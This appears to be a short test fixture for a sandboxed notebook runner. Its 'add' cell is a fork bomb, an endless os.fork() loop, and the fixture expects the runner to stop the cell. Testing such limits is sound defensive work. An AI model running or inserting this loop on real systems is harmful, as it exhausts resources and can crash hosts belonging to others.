# note: starts processes that start processes
# expect: add=0 double=4 fetch=3
# says: CellStopped
# needs: processes

# %% add
import os


async def add(a, b):
    while True:
        os.fork()
